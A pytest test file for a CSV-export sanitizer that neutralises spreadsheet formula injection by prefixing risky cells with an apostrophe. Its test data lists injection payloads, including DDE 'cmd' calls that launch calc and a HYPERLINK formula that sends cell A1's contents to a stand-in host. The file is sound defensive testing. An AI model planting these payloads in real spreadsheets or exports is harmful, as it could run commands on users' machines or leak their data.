"""CSV that a spreadsheet opens without harm."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qgen.files.csv_text import csv_text, harmless

FORMULAS = (
    "=cmd|'/c calc'!A1",
    "=1+1",
    "+1+1",
    "-1+1",
    "-cmd|'/c calc'!A1",
    "@SUM(A1:A9)",
    "@",
    "=",
    "-",
    "+",
    "--5",
    "=-5",
    "-5=",
    "-1e5",
    "+49 30 123456",
    "-1/4",
    "-.5",
    "-[1, 2]",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    " =1+1",
    "   @SUM(A1)",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\n=1+1",
    '=HYPERLINK("http://example.org?"&A1, "click")',
)


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_may_be_a_formula_gets_an_apostrophe(cell):
    assert harmless(cell) == f"'{cell}"


PLAIN = (
    "",
    "-0.25",
    "-3",
    "+1",
    "-0,5",
    "+0.125",
    "12",
    "0.5",
    "[1, -2]",
    "−0.5",
    "x = 3",
    "a=b",
    "Zoë O'Brien-Łukasiewicz",
    "李小龍",
    "محمد",
    "../../x",
    "'=1+1",
    "1e-5",
    "two\nlines",
)


@pytest.mark.parametrize("cell", PLAIN)
def test_everything_else_is_left_as_it_is(cell):
    assert harmless(cell) == cell


@pytest.mark.parametrize("cell", ["\t=1+1", "\r=1+1", "\x00=1+1", "\x1f@SUM(A1)", "\x0b=1"])
def test_control_characters_are_replaced(cell):
    assert harmless(cell) == "\ufffd" + cell[1:]


def test_cells_read_back_as_they_were_written():
    rows = [["id", "given"], ["1", "[1, 2]"], ["2", 'a "b"'], ["3", "x\ny"], ["4", ""]]
    assert list(csv.reader(io.StringIO(csv_text(rows), newline=""))) == rows


def test_every_cell_is_made_harmless():
    assert csv_text([["=1", "-1"], ["a", "@b"]]) == "'=1,-1\na,'@b\n"


@given(rows=st.lists(st.lists(st.text(max_size=6), min_size=2, max_size=3), max_size=4))
def test_no_cell_that_is_read_back_starts_like_a_formula(rows):
    for row in csv.reader(io.StringIO(csv_text(rows), newline="")):
        for cell in row:
            assert cell.lstrip()[:1] not in set("=@＝＠\t\r")
            assert (
                cell.lstrip()[:1] not in set("+-＋－")
                or cell.lstrip("+-").replace(".", "", 1).replace(",", "", 1).isdecimal()
            )


@pytest.mark.parametrize("cell", ["1;=cmd|'/c calc'!A1", "1; @SUM(A1)"])
def test_no_formula_begins_inside_a_cell_either(cell):
    parts = csv_text([["s1", cell]]).split(";")
    assert not any(part.strip().startswith(("=", "@")) for part in parts)
